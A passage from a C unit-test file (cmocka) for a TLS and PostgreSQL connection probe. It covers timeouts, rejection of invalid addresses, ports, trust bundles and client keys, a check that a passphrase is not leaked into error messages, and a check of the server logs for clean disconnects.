{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;
	struct fake f;

	(void)state;
	fake_start(&f, NULL, 0);
	req_init(&r, FAKE_ADDR, f.port);
	r.deadline_ms = 500;
	assert_int_equal(probe_postgres(&res, &r, &e), 0);
	fake_stop(&f);
	assert_int_equal(res.connected, 1);
	assert_non_null(strstr(res.error, "timed out"));
}

/* ---- bad inputs: errors, before any connection -------------------------------- */

static void test_bad_inputs(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;
	static const char junk[] = "-----BEGIN CERTIFICATE-----\nnot base64!\n-----END CERTIFICATE-----\n";

	(void)state;
	req_init(&r, BASE ".1", 5999);
	r.address = NULL;
	assert_int_equal(probe_tls(&res, &r, &e), ROTOR_EINVALID);

	req_init(&r, BASE ".1", 70000);
	assert_int_equal(probe_tls(&res, &r, &e), ROTOR_EINVALID);

	req_init(&r, BASE ".1", 5999);
	r.trust_pem = junk;
	r.trust_len = sizeof(junk) - 1;
	assert_int_equal(probe_tls(&res, &r, &e), ROTOR_EINVALID);
	assert_non_null(strstr(e.msg, "trust bundle"));

	req_init(&r, BASE ".1", 5999);
	with_client(&r, &G[0]);
	r.client_key_pem = G[1].app_key.ptr;     /* another generation's key */
	r.client_key_len = G[1].app_key.len;
	assert_int_equal(probe_postgres(&res, &r, &e), ROTOR_EINVALID);
	assert_non_null(strstr(e.msg, "does not match"));
	assert_int_equal(res.connected, 0);

	with_client(&r, &G[0]);
	r.client_key_pem = G[0].app_key_enc->ptr;
	r.client_key_len = G[0].app_key_enc->len;
	assert_int_equal(probe_postgres(&res, &r, &e), ROTOR_ESECRET);
	assert_non_null(strstr(e.msg, "no passphrase"));
	r.client_key_pass = "wrong";
	assert_int_equal(probe_postgres(&res, &r, &e), ROTOR_ESECRET);
	assert_null(strstr(e.msg, "wrong"));

	with_client(&r, &G[0]);
	r.client_key_pem = NULL;
	r.client_key_len = 0;
	assert_int_equal(probe_postgres(&res, &r, &e), ROTOR_EINVALID);
}

/*
 * Every accepted probe ends with Terminate and close_notify: PostgreSQL
 * logs no "unexpected EOF" or reset for any of them.
 */
static void test_pg_server_log_clean(void **state)
{
	(void)state;
	FLEET_REQUIRED(&F);
	if (getenv("PROBE_TRACE"))
		run_status("cat %s/hosts/host1/srv/postgres/log/postgres.log >&2", F.fleet_dir);
	assert_int_equal(run_status("grep -E -q 'unexpected EOF|Connection reset|could not receive data' "
				    "%s/hosts/host*/srv/postgres/log/postgres.log", F.fleet_dir), 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bad_inputs),
		cmocka_unit_test(test_closed_port),
		cmocka_unit_test(test_connect_timeout),
		cmocka_unit_test(test_fake_says_n),
		cmocka_unit_test(test_fake_s_plus_bytes_refused),
		cmocka_unit_test(test_fake_error_not_shown),
		cmocka_unit_test(test_fake_silent_deadline),
		cmocka_unit_test(test_pg_presents_expected_leaf),
		cmocka_unit_test(test_pg_unexpected_leaf),
		cmocka_unit_test(test_pg_other_generation_bundle),
		cmocka_unit_test(test_pg_name_mismatch),
		cmocka_unit_test(test_pg_client_accepted_encrypted_key),
		cmocka_unit_test(test_pg_client_other_generation_rejected),
		cmocka_unit_test(test_pg_no_client_cert_rejected),
		cmocka_unit_test(test_pg_user_not_the_cn_rejected),
		cmocka_unit_test(test_pg_after_switch),
		cmocka_unit_test(test_pg_tls12),
		cmocka_unit_test(test_pg_parallel),
		cmocka_unit_test(test_tls_s_server),
		cmocka_unit_test(test_https_s_server),
		cmocka_unit_test(test_tls_against_postgres),
		cmocka_unit_test(test_pg_server_log_clean),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
